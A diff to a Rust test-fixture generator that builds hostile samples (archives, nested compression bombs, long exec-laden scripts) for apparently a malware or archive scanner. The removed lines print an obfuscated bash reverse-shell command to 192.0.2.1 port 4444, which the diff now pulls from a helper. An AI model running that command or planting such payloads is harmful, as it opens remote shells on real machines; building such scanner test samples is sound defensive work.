@@ -1,8 +1,8 @@
 //! Files that are damaged or made to take long, made from seeds: always the same.
-use std::{fs, process::Command};
 use testkit::{
     elf::Elf,
     image::gzip,
+    planted::{packed, reverse_shell},
     spelling::zip,
     tar::{file, tar},
 };
@@ -54,16 +54,12 @@ fn damaged(name: &str, path: &str, bytes: &[u8], places: usize, hides: bool) -> 
     all
 }
 
-/// What lies in archives: it is always found when it can be read.
-fn script() -> String {
-    "#!/bin/bash\nexit 0\nbash -i >& /dev/t¦cp/192.0.2.1/4444 0>&1\n".replace('¦', "")
-}
-
+/// What lies in them is always found when it can be read.
 fn archives() -> Vec<Hostile> {
-    let inner = tar(&[file("x.sh", script())]);
+    let inner = tar(&[file("x.sh", reverse_shell())]);
     let mut kinds = vec![
-        ("zip", zip("x.sh", script().as_bytes())),
-        ("gzip", gzip(script().as_bytes())),
+        ("zip", zip("x.sh", reverse_shell().as_bytes())),
+        ("gzip", gzip(reverse_shell().as_bytes())),
         ("tar.gz", gzip(&inner)),
     ];
     let by_programs = [
@@ -75,10 +71,7 @@ fn archives() -> Vec<Hostile> {
         ("cpio", "echo x.sh | cpio -o --quiet -H newc >out"),
     ];
     for (name, script) in by_programs {
-        match packed(script) {
-            Some(bytes) => kinds.push((name, bytes)),
-            None => println!("skipped: {script}"),
-        }
+        kinds.extend(packed(script).map(|bytes| (name, bytes)));
     }
     let mut all = Vec::new();
     for (name, bytes) in kinds {
@@ -100,14 +93,6 @@ fn archives() -> Vec<Hostile> {
     all
 }
 
-/// Made by a program that packs, of a file `x.sh`.
-fn packed(how: &str) -> Option<Vec<u8>> {
-    let place = tempfile::tempdir().ok()?;
-    fs::write(place.path().join("x.sh"), script()).ok()?;
-    Command::new("sh").args(["-ec", how]).current_dir(place.path()).output().ok()?;
-    fs::read(place.path().join("out")).ok().filter(|it| !it.is_empty())
-}
-
 /// Small, and large when they are unpacked, or without end.
 fn bombs() -> Vec<Hostile> {
     let zeros = gzip(&vec![0; 64 << 20]);
@@ -115,14 +100,14 @@ fn bombs() -> Vec<Hostile> {
         (0..times).for_each(|_| bytes = pack(&bytes));
         bytes
     };
-    let within_tar = again(script().into_bytes(), &|it| tar(&[file("a.tar", it)]), 12);
-    let within_zip = again(script().into_bytes(), &|it| zip("a.zip", it), 40);
-    let within_gzip = again(script().into_bytes(), &|it| gzip(it), 30);
+    let within_tar = again(reverse_shell().into_bytes(), &|it| tar(&[file("a.tar", it)]), 12);
+    let within_zip = again(reverse_shell().into_bytes(), &|it| zip("a.zip", it), 40);
+    let within_gzip = again(reverse_shell().into_bytes(), &|it| gzip(it), 30);
     let many: Vec<_> = (0..30_000).map(|i| file(&format!("f/{i}"), "a\n")).collect();
     let mut behind = many.clone();
-    behind.push(file("x.sh", script()));
+    behind.push(file("x.sh", reverse_shell()));
     let mut bombs: Vec<_> = (0..30).map(|i| file(&format!("{i}.gz"), &zeros)).collect();
-    bombs.push(file("x.sh", script()));
+    bombs.push(file("x.sh", reverse_shell()));
     let named = [
         ("a script behind thirty bombs", "opt/a.tar", tar(&bombs)),
         ("twelve tars in each other", "opt/a.tar", within_tar),
@@ -194,6 +179,17 @@ fn texts() -> Vec<Hostile> {
             let (path, bytes) = ((*place).to_owned(), text.into_bytes());
             all.push(Hostile { name, path, bytes, hides: false });
         }
+    }
+    // A long text, and calls that are given it again and again.
+    for (place, is) in
+        [("srv/a.py", "a = '"), ("srv/a.js", "var a = '"), ("srv/a.php", "<?php $a='")]
+    {
+        let name = if place.ends_with("php") { "$a" } else { "a" };
+        let call = format!("exec({name},{name},{name});");
+        let text = format!("{is}{}';\n{}", "QUFB".repeat(BYTES / 16), call.repeat(BYTES / 64));
+        let (path, bytes) = (place.to_owned(), text.into_bytes());
+        let name = format!("one long text given to many calls in {place}");
+        all.push(Hostile { name, path, bytes, hides: false });
     }
     all
 }
